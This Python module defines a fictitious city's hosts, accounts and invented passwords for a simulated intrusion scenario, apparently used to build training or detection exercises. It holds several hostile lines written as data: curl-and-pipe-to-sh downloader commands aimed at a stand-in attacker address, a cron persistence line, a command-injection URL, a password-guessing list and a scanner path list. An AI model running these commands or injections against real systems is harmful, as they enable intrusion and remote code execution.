"""The fictitious city: its units, hosts, people, and what the attacker knows and wants.

Every address comes from ranges kept for documentation (RFC 5737) or private use, every
name and password was made up for this example. Change the story here.
"""
from collections import namedtuple

Host = namedtuple("Host", "name address unit_zh unit_en sector_zh sector_en site")
Account = namedtuple("Account", "name uid password hosts")

HOSTS = (
    Host("edu-web01", "10.20.1.11", "市教育局信息中心", "Education Bureau Information Centre",
         "教育", "education", "education"),
    Host("tax-app01", "10.20.2.11", "市税务局信息中心", "Tax Bureau Information Centre",
         "税务", "taxation", "tax"),
    Host("hosp-web01", "10.20.3.11", "市中心医院", "Central Hospital",
         "医疗", "health care", "hospital"),
)
EDU, TAX, HOSP = HOSTS

ATTACKER = "203.0.113.66"
JUMP_HOST = "10.20.9.10"
DESKS = ("10.20.9.21", "10.20.9.22", "10.20.9.23")
CITIZENS = tuple(f"198.51.100.{n}" for n in range(20, 44))
CRAWLER = "198.51.100.200"
NETWORKS = ("10.20.0.0/16", "198.51.100.0/24", "203.0.113.0/24")

# The maintenance contractor uses one weak password at two of its customers.
CONTRACTOR = Account("opsvc", 1101, "opsvc@123", ("edu-web01", "hosp-web01"))
ACCOUNTS = (
    CONTRACTOR,
    Account("ops", 1102, "Bronze-Heron-41-Lantern", ("edu-web01", "tax-app01", "hosp-web01")),
    Account("editor", 1103, "Lotus-Lake-Pavilion-7", ("edu-web01",)),
    Account("clerk", 1104, "Willow-Ledger-Sunday-3", ("tax-app01",)),
    Account("ward", 1105, "Quiet-Corridor-Nine-Keys", ("hosp-web01",)),
)

GUESSED_NAMES = ("root", "admin", "test", "oracle", "backup", "opsvc")
GUESSED_PASSWORDS = ("123456", "password", "admin123", "P@ssw0rd", "root@123", "qwerty",
                     "12345678", "abc123", "welcome1", CONTRACTOR.password)

# What is fetched and what is uploaded does nothing: both are comments and no more.
DOWNLOADER = f"http://{ATTACKER}/x/dl.sh"
DOWNLOADER_TEXT = "#!/bin/sh\n# Stands for a downloader in the Fengsui example. It does nothing.\n"
SHELL_PATH = "/uploads/help.php"
SHELL_TEXT = "Stands for a web shell in the Fengsui example. It holds no code.\n"
# The stand-in for a script interpreter runs these lines and refuses every other.
SHELL_COMMANDS = ("id", "uname -a", f"curl -fsS {DOWNLOADER} -o /dev/shm/.dl.sh")
CRON_JOB = f"* * * * * curl -fsS {DOWNLOADER} | sh\n"
INJECTION = f"/cgi-bin/netcheck?host=127.0.0.1;curl+-fsS+{DOWNLOADER}|sh"

# Our scanner tries names as gobuster does, and gives its name as gobuster would.
SCANNER_AGENT = "gobuster/3.6"
SCANNED = tuple("""
/admin /admin/ /admin.php /administrator/ /login /login.php /manage /manager/html /console /cms
/phpmyadmin/ /pma/ /mysql/ /dbadmin/ /adminer.php /phpinfo.php /info.php /test.php /status
/.git/HEAD /.git/config /.svn/entries /.env /.htaccess /.htpasswd /.DS_Store /web.config
/config.php /config.php.bak /config.yml /configuration.php~ /settings.py /database.yml
/backup /backup.zip /backup.tar.gz /backup.sql /db.sql /dump.sql /site.tar.gz /www.zip /old/ /bak/
/wp-login.php /wp-admin/ /wp-content/ /xmlrpc.php /joomla/ /drupal/ /install.php /setup.php
/cgi-bin/ /cgi-bin/test.cgi /cgi-bin/status /server-status /server-info /actuator /actuator/env
/solr/ /jenkins/ /struts/ /axis2/ /druid/index.html /nacos/ /swagger-ui.html /v2/api-docs
/api /api/v1 /api/users /graphql /rest/ /robots.txt /sitemap.xml /crossdomain.xml
/upload /upload/ /upload.php /uploader/ /fileupload /files/ /file/ /uploads/ /attachments/
/images/ /tmp/ /temp/ /data/ /logs/ /log/ /include/ /includes/ /static/ /assets/ /vendor/
""".split())

# Pages that exist, and two that browsers and crawlers ask for in vain.
PAGES = {
    "education": ("/", "/news/", "/news/enrolment.html", "/schools.html", "/style.css",
                  "/search.html?q=enrolment", "/robots.txt"),
    "tax": ("/", "/forms/", "/forms/vat.html", "/forms/stamp-duty.html", "/style.css",
            "/search.html?q=invoice&page=2", "/robots.txt"),
    "hospital": ("/", "/clinics/", "/clinics/cardiology.html", "/register.html", "/style.css",
                 "/search.html?q=clinic+hours", "/robots.txt"),
}
MISSING = ("/favicon.ico", "/apple-touch-icon.png")
BROWSERS = (
    "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) "
    "Chrome/129.0.0.0 Safari/537.36",
    "Mozilla/5.0 (X11; Linux x86_64; rv:128.0) Gecko/20100101 Firefox/128.0",
    "Mozilla/5.0 (iPhone; CPU iPhone OS 17_6 like Mac OS X) AppleWebKit/605.1.15 "
    "(KHTML, like Gecko) Version/17.6 Mobile/15E148 Safari/604.1",
)
CRAWLER_AGENT = "Mozilla/5.0 (compatible; CityLibraryCrawler/1.2)"
